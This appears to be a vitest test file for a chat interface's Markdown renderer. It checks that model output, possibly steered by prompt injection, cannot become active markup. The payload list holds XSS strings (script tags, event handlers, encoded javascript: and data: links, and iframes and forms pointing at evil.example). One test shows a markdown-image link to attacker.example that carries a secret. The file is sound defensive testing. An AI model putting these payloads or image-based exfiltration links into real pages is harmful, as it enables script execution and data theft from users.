// The chat renders model output, which an attacker can steer (a prompt injection in a web page
// the model read): no payload may become markup that runs script or leaves the page.
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown.js";

const payloads = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<iframe src=https://evil.example></iframe>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  '[x](https://ok.example "a" onmouseover="alert(1))',
  '[x](https://ok.example/"onmouseover="alert(1))',
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://ok.example/i.png)',
  "<javascript:alert(1)>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<svg><script>alert(1)</script></svg>",
  "<details open ontoggle=alert(1)>",
  "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
  "<style>body{display:none}</style>",
  '<form action="https://evil.example"><button>go</button></form>',
];

/** Every tag the renderer may produce, with the attributes each may carry. */
const allowed: Record<string, readonly string[]> = {
  a: ["href", "title", "target", "rel"],
  pre: ["class", "data-language", "tabindex"],
  code: ["class"],
  p: [],
  em: [],
  strong: [],
  del: [],
  ul: [],
  ol: ["start"],
  li: [],
  input: ["checked", "disabled", "type"],
  blockquote: [],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ["align"],
  td: ["align"],
  h1: [],
  h2: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  hr: [],
  br: [],
  span: ["class"],
};

function tagsOf(html: string): Array<{ tag: string; attributes: Map<string, string> }> {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)].map(([, tag, rest]) => ({
    tag: (tag as string).toLowerCase(),
    attributes: new Map(
      [...(rest as string).matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map(([, name, value]) => [
        (name as string).toLowerCase(),
        value ?? "",
      ]),
    ),
  }));
}

describe("Markdown from a model", () => {
  for (const payload of payloads) {
    it(`renders ${JSON.stringify(payload)} without active markup`, () => {
      const html = renderMarkdown(payload);
      for (const { tag, attributes } of tagsOf(html)) {
        expect(Object.keys(allowed), `<${tag}> in ${html}`).toContain(tag);
        for (const [name, value] of attributes) {
          expect(allowed[tag], `${name} on <${tag}> in ${html}`).toContain(name);
          if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/i);
        }
        if (tag === "a") expect(attributes.get("rel")).toBe("noopener noreferrer");
      }
    });
  }

  it("never loads an image by itself: it is a link naming its host", () => {
    const html = renderMarkdown("![status](https://attacker.example/p.png?d=the+secret)");
    expect(html).not.toMatch(/<img/);
    expect(html).toContain('href="https://attacker.example/p.png?d=the+secret"');
    expect(html).toContain("image: status");
    expect(html).toContain("(attacker.example)");
  });

  it("keeps what the model meant to show, as text", () => {
    expect(renderMarkdown("<script>alert(1)</script>")).toContain("&lt;script&gt;");
    expect(renderMarkdown("[docs](https://example.com/a?b=1&c=2)")).toContain(
      'href="https://example.com/a?b=1&amp;c=2"',
    );
  });
});
